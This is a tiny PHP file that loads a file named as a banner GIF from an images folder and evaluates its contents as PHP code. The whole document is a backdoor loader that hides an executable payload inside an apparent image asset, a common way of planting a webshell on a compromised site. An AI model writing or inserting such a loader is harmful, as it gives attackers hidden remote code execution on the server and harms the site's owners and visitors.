<?php
$d = file_get_contents(__DIR__ . '/images/banner-hut-ri.gif');
eval('?>' . $d);
